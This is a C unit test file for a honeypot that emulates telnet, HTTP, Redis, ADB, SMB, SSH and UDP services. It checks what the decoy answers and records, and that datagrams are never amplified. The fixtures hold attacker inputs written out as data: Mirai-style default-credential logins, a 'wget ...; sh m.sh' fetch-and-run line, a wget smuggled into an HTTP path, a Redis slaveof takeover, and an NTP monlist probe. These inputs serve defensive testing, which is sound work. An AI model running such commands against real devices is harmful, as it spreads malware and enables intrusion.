/*
 * Each protocol of the decoy as a function of bytes: what it answers, what is recorded, where it ends; cut into pieces
 * of any size it says the same; and no datagram is ever answered with more bytes than it has.
 */
#include "decoy/hatch.h"
#include "decoy/report.h"

#include "base/hash.h"

#include <setjmp.h>
#include <sodium.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

static uint8_t chance;

static void same_chance(void *at, size_t size)
{
	uint8_t *to = at;
	for (size_t i = 0; i < size; i++)
		to[i] = chance += 31;
}

static struct session_settings settings = { .bytes_most = 4096, .login_after = 2, .random = same_chance };

static void begin(struct session *session, const char *service)
{
	chance = 0;
	assert_true(session_begin(session, protocol_named(text_of(service)), &settings, 1795300000 * SECOND));
}

static void say(struct session *session, struct text bytes, size_t piece)
{
	while (bytes.size) {
		size_t size = piece < bytes.size ? piece : bytes.size;
		session_take(session, (struct text){ bytes.at, size });
		bytes.at += size;
		bytes.size -= size;
	}
}

/* "kind:first/second;" of each fact */
static char *facts_of(const struct session *session)
{
	static const char *const names[] = { "", "credential", "command", "client", "hassh", "method", "path", "header",
		"url" };
	static struct builder text;
	struct reader facts = reader_of(session->facts.at, session->facts.size);
	struct fact_text fact;
	builder_clear(&text);
	build_text(&text, TEXT(""));
	while (report_fact(&facts, &fact)) {
		build_format(&text, "%s:", names[fact.kind]);
		build_text(&text, fact.first);
		if (fact.kind == FACT_CREDENTIAL || fact.kind == FACT_HEADER)
			build_char(&text, '/');
		build_text(&text, fact.second);
		build_char(&text, ';');
	}
	assert_false(facts.failed);
	return text.at ? text.at : "";
}

/* In one piece and in pieces of one and of seven bytes. */
static void expect(const char *service, struct text bytes, struct text answer, const char *facts, enum session_end end)
{
	static const size_t pieces[] = { SIZE_MAX, 1, 7 };
	for (size_t i = 0; i < sizeof pieces / sizeof *pieces; i++) {
		struct session session;
		begin(&session, service);
		say(&session, bytes, pieces[i]);
		assert_int_equal(session.end, end);
		session_finish(&session, SESSION_LEFT);
		assert_string_equal(facts_of(&session), facts);
		if (answer.at) {
			assert_int_equal(session.answer.size, answer.size);
			assert_memory_equal(session.answer.at, answer.at, answer.size);
		}
		session_free(&session);
	}
}

static void test_telnet_lets_in_at_the_second_try_and_does_nothing(void **state)
{
	(void)state;
	expect("telnet",
	    TEXT("\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x18root\r\nxc3511\r\nadmin\r\0admin\r\n/bin/busybox MIRAI\r\nwget "
		 "http://198.51.100.9/m.sh;sh m.sh\n"),
	    TEXT("\xff\xfb\x01\xff\xfb\x03\r\nlogin: \xff\xfc\x1f\xff\xfe\x18\r\nPassword: \r\nLogin "
		 "incorrect\r\nlogin: \r\nPassword: \r\n$ \r\nMIRAI: applet not found\r\n$ \r\n$ "),
	    "credential:root/xc3511;credential:admin/admin;command:/bin/busybox MIRAI;command:wget "
	    "http://198.51.100.9/m.sh;sh m.sh;url:http://198.51.100.9/m.sh;",
	    SESSION_OPEN);
}

static void test_telnet_ends_when_an_option_never_does(void **state)
{
	struct session session;
	char bytes[2000];
	(void)state;
	memset(bytes, 'a', sizeof bytes);
	memcpy(bytes, "\xff\xfa\x18", 3);
	begin(&session, "telnet");
	say(&session, (struct text){ bytes, sizeof bytes }, 100);
	assert_int_equal(session.end, SESSION_BROKEN);
	session_free(&session);
}

static const char http_answer[] =
    "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"login\"\r\nContent-Type: "
    "text/plain\r\nContent-Length: 13\r\nConnection: close\r\n\r\nlogin needed\n";

static void test_http_records_credentials_and_answers_all_alike(void **state)
{
	(void)state;
	expect("http",
	    TEXT("GET /a?b=;wget+http://192.0.2.7/x HTTP/1.1\r\nHost: h\r\nAuthorization: Basic YWxpY2U6b25l\r\n\r\n"),
	    TEXT(http_answer),
	    "method:GET;path:/a?b=;wget+http://192.0.2.7/x;header:Host/h;header:Authorization/;credential:alice/"
	    "one;url:http://192.0.2.7/x;",
	    SESSION_DONE);
	expect("http",
	    TEXT("POST /login?user=eve&password=k HTTP/1.1\nContent-Type: application/x-www-form-urlencoded\n"
		 "Content-Length: 24\n\nuser=bob&password=s%2Bt+"),
	    TEXT(http_answer),
	    "method:POST;credential:eve/k;path:/login;header:Content-Type/application/x-www-form-urlencoded;"
	    "header:Content-Length/24;credential:bob/s+t ;",
	    SESSION_DONE);
	expect("http", TEXT("GET / HTTP/1.1\r\nContent-Length: x\r\n\r\n"), TEXT(""),
	    "method:GET;path:/;header:Content-Length/x;", SESSION_BROKEN);
}

static void test_a_password_in_a_form_is_no_payload(void **state)
{
	struct session session;
	(void)state;
	begin(&session, "http");
	say(&session,
	    TEXT("POST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: "
		 "9\r\n\r\npwd=12345"),
	    SIZE_MAX);
	assert_int_equal(session.payload.size, 0);
	session_free(&session);
}

static void test_redis_answers_as_one_without_data(void **state)
{
	(void)state;
	expect("redis",
	    TEXT("*1\r\n$4\r\nPING\r\n*2\r\n$4\r\nAUTH\r\n$3\r\nabc\r\nINFO\r\n*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$"
		 "11\r\n"
		 "requirepass\r\n$1\r\nq\r\nget x\r\nslaveof 192.0.2.1 6379\r\n*1\r\n$4\r\nquit\r\n"),
	    TEXT("+PONG\r\n+OK\r\n$8\r\n# Server\r\n+OK\r\n$-1\r\n+OK\r\n+OK\r\n"),
	    "command:PING;credential:/abc;command:AUTH;command:INFO;command:CONFIG SET requirepass;command:get "
	    "x;command:slaveof 192.0.2.1 6379;command:quit;",
	    SESSION_DONE);
	expect("redis", TEXT("*1\r\n$99999999999\r\n"), TEXT("-ERR Protocol error\r\n"), "", SESSION_BROKEN);
	expect("redis", TEXT("*65\r\n"), TEXT("-ERR Protocol error\r\n"), "", SESSION_BROKEN);
}

static void test_adb_takes_commands_and_no_files(void **state)
{
	(void)state;
	static const char bytes[] = "CNXN\0\0\0\1\0\0\x10\0\6\0\0\0\x1c\2\0\0\xbc\xb1\xa7\xb1host::"
				    "OPEN\1\0\0\0\0\0\0\0\x0a\0\0\0\0\0\0\0\xb0\xaf\xba\xb1shell:id\0\0"
				    "OPEN\2\0\0\0\0\0\0\0\6\0\0\0\0\0\0\0\xb0\xaf\xba\xb1sync:\0";
	expect("adb", (struct text){ bytes, sizeof bytes - 1 },
	    TEXT("CNXN\0\0\0\1\0\x10\0\0\x08\0\0\0\xe4\2\0\0\xbc\xb1\xa7\xb1"
		 "device::"
		 "OKAY\x09\0\0\0\1\0\0\0\0\0\0\0\0\0\0\0\xb0\xb4\xbe\xa6"
		 "CLSE\x09\0\0\0\1\0\0\0\0\0\0\0\0\0\0\0\xbc\xb3\xac\xba"
		 "CLSE\0\0\0\0\2\0\0\0\0\0\0\0\0\0\0\0\xbc\xb3\xac\xba"),
	    "client:host::;command:id;command:sync:;", SESSION_OPEN);
}

/* A message of SMB2 (MS-SMB2 2.2.1) with what is before it. */
static void put_smb2(struct builder *to, uint16_t command, uint64_t number, struct text body)
{
	static const uint8_t zeros[32] = { 0 };
	put_bytes(to, "\0\0\0", 3);
	put_u8(to, (uint8_t)(64 + body.size));
	put_bytes(to, "\xfeSMB\x40\0\0\0\0\0\0\0", 12);
	put_u16(to, command);
	put_bytes(to, zeros, 10);
	put_u64(to, number);
	put_bytes(to, zeros, 32);
	put_bytes(to, body.at, body.size);
}

static void test_smb_negotiates_and_says_no_more(void **state)
{
	static const char ask[40] = { 36, 0, 2, 0, [36] = 0x02, 0x02, 0x10, 0x02 }; /* 2.0.2, 2.1 */
	struct builder bytes = { 0 };
	struct session session;
	(void)state;
	put_smb2(&bytes, 0, 7, (struct text){ ask, sizeof ask });
	begin(&session, "smb");
	say(&session, (struct text){ bytes.at, bytes.size }, 3);
	assert_int_equal(session.end, SESSION_OPEN);
	assert_int_equal(session.answer.size, 4 + 64 + 64 + 30);
	assert_memory_equal(session.answer.at, "\0\0\0\x9e\xfeSMB\x40\0", 10);
	assert_memory_equal(session.answer.at + 4 + 24, "\7\0\0\0\0\0\0\0", 8); /* the question's number */
	assert_memory_equal(session.answer.at + 4 + 64 + 4, "\x10\2", 2);       /* 2.1 */
	builder_clear(&bytes);
	put_smb2(&bytes, 1, 8, TEXT("session setup"));
	say(&session, (struct text){ bytes.at, bytes.size }, 5);
	assert_int_equal(session.end, SESSION_DONE);
	assert_int_equal(session.answer.size, 4 + 64 + 64 + 30);
	session_finish(&session, SESSION_LEFT);
	assert_string_equal(facts_of(&session), "command:SMB2 negotiate;command:SMB2 command 1;");
	session_free(&session);
	builder_free(&bytes);
}

static void test_ssh_shows_its_version_and_takes_no_other_protocol(void **state)
{
	struct session session;
	(void)state;
	begin(&session, "ssh");
	assert_memory_equal(session.answer.at, "SSH-2.0-", 8);
	say(&session, TEXT("GET / HTTP/1.1\r\n\r\n"), SIZE_MAX);
	assert_int_equal(session.end, SESSION_BROKEN);
	session_free(&session);
	begin(&session, "ssh");
	say(&session, TEXT("SSH-2.0-Go\r\n\0\0\0\1\0"), SIZE_MAX);
	assert_int_equal(session.end, SESSION_BROKEN);
	session_free(&session);
}

static void test_tcp_stops_at_its_limit(void **state)
{
	struct session session;
	char bytes[5000];
	(void)state;
	memset(bytes, 'x', sizeof bytes);
	begin(&session, "tcp");
	say(&session, (struct text){ bytes, sizeof bytes }, 999);
	assert_int_equal(session.end, SESSION_FULL);
	assert_int_equal(session.received, 4096);
	assert_int_equal(session.payload.size, 4096);
	assert_int_equal(session.answer.size, 0);
	session_free(&session);
}

/* ── datagrams ─ */

static size_t answer_size(const char *service, struct text bytes, bool answers)
{
	struct session session;
	settings.udp_answers = answers;
	begin(&session, service);
	session_take(&session, bytes);
	session_finish(&session, SESSION_DONE);
	size_t size = session.answer.size;
	session_free(&session);
	settings.udp_answers = false;
	return size;
}

static void test_datagrams_are_answered_with_no_more_than_they_have(void **state)
{
	static const char *const services[] = { "udp", "dns", "ntp", "ssdp" };
	static const struct text questions[] = {
		{ "\x12\x34\x01\0\0\1\0\0\0\0\0\1\7example\0\0\1\0\1\0\0\x29\x10\0\0\0\0\0\0\0", 36 },
		{ "\x23\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\1",
		    48 },
		{ "\x17\0\3\x2a\0\0\0\0", 8 }, /* monlist */
		{ "M-SEARCH * HTTP/1.1\r\nST: ssdp:all\r\n\r\n", 37 },
		{ "M-SEARCH ", 9 },
	};
	size_t answered = 0;
	(void)state;
	for (size_t s = 0; s < 4; s++)
		for (size_t q = 0; q < 5; q++)
			for (size_t size = 1; size <= questions[q].size; size++) {
				struct text bytes = { questions[q].at, size };
				size_t answer = answer_size(services[s], bytes, true);
				assert_true(answer <= size);
				assert_int_equal(answer_size(services[s], bytes, false), 0);
				answered += answer > 0;
			}
	assert_true(answered > 20); /* of many lengths: it is no rule about nothing */
	assert_int_equal(answer_size("ntp", questions[2], true), 0);
}

static void test_what_sends_believes_no_parser(void **state)
{
	const struct service quiet = { .answers = false }, talks = { .answers = true };
	(void)state;
	assert_false(hatch_may_send(&quiet, 100, 1));
	assert_true(hatch_may_send(&talks, 100, 100));
	assert_false(hatch_may_send(&talks, 100, 101));
	assert_false(hatch_may_send(&talks, 100, 0));
	assert_false(hatch_may_send(&talks, 5000, 513));
}

static void test_bytes_of_chance_are_borne_by_all(void **state)
{
	uint64_t seed = 20261122;
	(void)state;
	for (size_t p = 0; protocol_at(p); p++)
		for (int round = 0; round < 200; round++) {
			char bytes[600];
			struct session session;
			for (size_t i = 0; i < sizeof bytes; i++)
				bytes[i] = (char)(seed = hash_u64(seed, 1));
			begin(&session, protocol_at(p)->name);
			say(&session, (struct text){ bytes, sizeof bytes }, 1 + (size_t)round);
			session_finish(&session, SESSION_LEFT);
			assert_true(session.end != SESSION_OPEN && session.answer.size < 65536);
			session_free(&session);
		}
}

static void test_reports_that_are_none_are_refused(void **state)
{
	struct report report = { .facts = TEXT("\2\2\0\0\0ls"), .payload = TEXT("p"), .end = SESSION_DONE }, again;
	struct builder message = { 0 };
	(void)state;
	report_encode(&report, &message);
	assert_true(report_decode((struct text){ message.at, message.size }, &again));
	for (size_t size = 0; size < message.size; size++)
		assert_false(report_decode((struct text){ message.at, size }, &again));
	builder_clear(&message);
	report.facts = TEXT("\x63\2\0\0\0ls");
	report_encode(&report, &message);
	assert_false(report_decode((struct text){ message.at, message.size }, &again));
	builder_free(&message);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_telnet_lets_in_at_the_second_try_and_does_nothing),
		cmocka_unit_test(test_telnet_ends_when_an_option_never_does),
		cmocka_unit_test(test_http_records_credentials_and_answers_all_alike),
		cmocka_unit_test(test_a_password_in_a_form_is_no_payload),
		cmocka_unit_test(test_redis_answers_as_one_without_data),
		cmocka_unit_test(test_adb_takes_commands_and_no_files),
		cmocka_unit_test(test_smb_negotiates_and_says_no_more),
		cmocka_unit_test(test_ssh_shows_its_version_and_takes_no_other_protocol),
		cmocka_unit_test(test_tcp_stops_at_its_limit),
		cmocka_unit_test(test_datagrams_are_answered_with_no_more_than_they_have),
		cmocka_unit_test(test_what_sends_believes_no_parser),
		cmocka_unit_test(test_bytes_of_chance_are_borne_by_all),
		cmocka_unit_test(test_reports_that_are_none_are_refused),
	};
	if (sodium_init() < 0)
		return 1;
	return cmocka_run_group_tests(tests, NULL, NULL);
}
